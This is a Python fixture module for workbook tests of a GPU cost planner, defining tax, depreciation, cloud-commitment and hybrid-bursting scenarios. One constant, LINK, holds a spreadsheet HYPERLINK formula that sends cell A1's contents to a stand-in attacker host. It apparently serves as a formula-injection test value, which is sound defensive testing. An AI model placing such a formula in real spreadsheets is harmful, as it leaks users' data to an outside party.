"""Scenarios the workbook tests price and recalculate (tests/test_workbook_formulas.py):
small enough to check by hand, each exercising formulas the bundled scenarios do not."""

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.workbook.workbook import Workbook

    from planner.cost.results import TcoReport

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HAND = {
    "name": "hand",
    "currency": "USD",
    "horizons_years": [1],
    "discount_rate": 0.0,
    "utilization": 0.5,
    "self_hosted": [
        {"gpu": "H100", "servers": 1, "gpus_per_server": 8, "price": 100000, "idle_kw": 1.0,
         "load_kw": 2.0, "max_kw": 2.0}
    ],
    "overrides": {
        "network_share": 0.0, "storage_share": 0.0, "life_years": 1.0, "pue": 1.0,
        "kwh_price": 0.1, "colo_per_kw_month": 0.0, "support_share_year": 0.0,
        "fte_per_server": 0.0, "lead_time_months": 0, "availability": 1.0,
    },
    "cloud": [{"name": "flat", "gpu": "H100", "price_per_gpu_hour": 10.0}],
}  # fmt: skip
TAXED = {
    **HAND,
    "name": "taxed",
    "horizons_years": [4],
    "discount_rate": 0.1,
    "overrides": {
        **HAND["overrides"],  # type: ignore[dict-item]
        "life_years": 3.0, "residual_share": 0.1, "depreciation_method": "double_declining",
        "tax_rate": 0.25, "tax_life_years": 2.0, "tax_method": "sum_of_years_digits",
        "lead_time_months": 2, "fte_per_server": 0.5, "support_share_year": 0.1,
        "kwh_price": tuple(0.05 + 0.01 * (h % 6) for h in range(24)),
        "resale_share": 0.3,
    },
}  # fmt: skip
"""Tax, declining-balance book and sum-of-years tax depreciation, a residual, a lead time
bridged by the cloud, staff, support, a time-of-use tariff and a resale value taxed on its
gain over the tax book value: the sheet's rarer formulas."""
INSURED = {
    **TAXED,
    "name": "insured",
    "overrides": {
        **TAXED["overrides"],  # type: ignore[dict-item]
        "insurance_share_year": 0.012, "property_tax_share_year": 0.03,
    },
}  # fmt: skip
"""TAXED with insurance (a share of CapEx a year) and property tax (a share of the book value
at each month's start, here under declining-balance depreciation)."""
ESCALATED = {
    **INSURED,
    "name": "escalated",
    "overrides": {
        **INSURED["overrides"],  # type: ignore[dict-item]
        "colo_per_kw_month": 150.0, "power_escalation_year": 0.10,
        "staff_escalation_year": 0.05, "colo_escalation_year": 0.03,
        "cloud_escalation_year": 0.04,
    },
}  # fmt: skip
"""INSURED (4 years on a 3-year life: a refresh in month 37) with power, salaries,
colocation and cloud prices escalating at different rates: every escalated cell, the bridge
and the cloud bill's included."""
COMMITTED = {
    **HAND,
    "name": "committed",
    "cloud": [{"name": "flat", "gpu": "H100", "price_per_gpu_hour": 10.0, "committed_gpus": 3,
               "packing": "per-job"}],
}  # fmt: skip
"""A flat demand of 4 GPUs (2,920 GPU-hours a month) on 3 committed: 730 GPU-hours above."""
MIXED_TRACE = """\
job_id,submit_time,start_time,end_time,duration_s,pods,gpus,gpu_type,cpu,mem_gib,queue,user,priority,status
g1,2026-01-05T00:00:00Z,2026-01-05T00:00:00Z,2026-01-05T01:00:00Z,3600,1,8,H100,32,256,a,u1,0,completed
g2,2026-01-05T00:00:00Z,2026-01-05T00:00:00Z,2026-01-05T02:00:00Z,7200,1,8,H100,32,256,b,u2,0,completed
c1,2026-01-05T00:00:00Z,2026-01-05T00:00:00Z,2026-01-05T00:30:00Z,1800,2,0,,4,16,a,u1,0,completed
"""
MIXED = {
    **HAND,
    "name": "mixed",
    "scope": "all-jobs",
    "discount_rate": 0.1,
    "self_hosted": [{**HAND["self_hosted"][0], "cpu": 64, "mem_gib": 512}],  # type: ignore[index]
    "overrides": {**HAND["overrides"], "lead_time_months": 1},  # type: ignore[dict-item]
    "cloud": [
        {"name": "spot", "gpu": "H100", "price_per_gpu_hour": 2.0,
         "spot": {"interruptions_per_hour": 0.5, "restart_s": 360, "checkpoint_interval_s": 1200},
         "storage_gb": 1000, "storage_price_gb_month": 0.02,
         "egress_gb_month": 500, "egress_price_gb": 0.09,
         "price_per_vcpu_hour": 0.05, "price_per_gib_hour": 0.01, "packing": "per-job"},
        {"name": "reserved", "provider": "AWS", "gpu": "H100", "pricing_model": "reserved",
         "term_months": 12, "committed_gpus": 8,
         "price_per_vcpu_hour": 0.05, "price_per_gib_hour": 0.01, "packing": "per-job"},
    ],
    "hybrid": {"burst_after_s": 600, "cloud": "reserved"},
}  # fmt: skip
"""Two hours of a tiny trace (365 spans a month): 8-GPU jobs of 1 h and 2 h at once and a
CPU-only job; a spot option bridging the lead time (with storage, egress and CPU instances),
an AWS reservation of 8 GPUs that the first hour's 16 GPUs overflow, and a hybrid bursting
to it: every cloud part, the commitment's levels and a burst bill's (both options per job:
the levels are a per-job commitment's)."""


def refreshing() -> dict[str, object]:
    """MIXED over 4 years on a 3-year life with cloud prices rising 4 % a year: the hybrid's
    kept servers are bought again and its bursts escalate."""
    overrides = {
        **MIXED["overrides"],  # type: ignore[dict-item]
        "life_years": 3.0,
        "cloud_escalation_year": 0.04,
        "power_escalation_year": 0.02,
    }
    return {**MIXED, "name": "mixed_up", "horizons_years": [4], "overrides": overrides}


def reserving(gpus: float) -> dict[str, object]:
    """MIXED with `gpus` committed on the reservation."""
    clouds = MIXED["cloud"]  # type: ignore[index]
    return {**MIXED, "cloud": [clouds[0], {**clouds[1], "committed_gpus": gpus}]}


def spilling() -> dict[str, object]:
    """MIXED with the reservation's overflow (and so the hybrid's bursts above it) on the spot
    option: the commitment is never interrupted, the overflow pays spot's re-runs."""
    clouds = MIXED["cloud"]  # type: ignore[index]
    return {**MIXED, "name": "spill", "cloud": [clouds[0], {**clouds[1], "overflow": "spot"}]}


def pooling() -> dict[str, object]:
    """MIXED with the reservation packed on a node pool (its 8 committed GPUs one committed
    p5 instance kept up, the first hour's other 8 GPUs on a launched one) and the hybrid
    bursting to it; the spot option stays per job."""
    clouds = MIXED["cloud"]
    assert isinstance(clouds, list)
    pooled = {**clouds[1], "packing": "pool", "provisioning_s": 300, "scale_down_s": 600}
    return {**MIXED, "name": "pooled", "cloud": [clouds[0], pooled]}


def options_sheet_mismatches(book: "Workbook", report: "TcoReport") -> list[str]:
    """Where the recalculated "Options (all horizons)" sheet differs from the model's figures
    (every horizon, option and column; a cent, or 1e-9 relative, of tolerance)."""
    from planner.report import build_report

    table = build_report([(report.scenario, report)], 0, "en").options
    sheet = book["Options (all horizons)"]
    out = []
    for r, row in enumerate(table.rows, start=2):
        for k, (value, column) in enumerate(zip(row, table.columns, strict=True), start=1):
            shown = sheet.cell(r, k).value
            if not isinstance(value, int | float) or isinstance(value, bool):
                continue
            close = isinstance(shown, int | float) and abs(shown - value) <= max(
                0.005, 1e-9 * abs(value)
            )
            if not close:
                out.append(f"{row[1]}y {row[2]} {column.key}: {shown!r} != {value!r}")
    return out
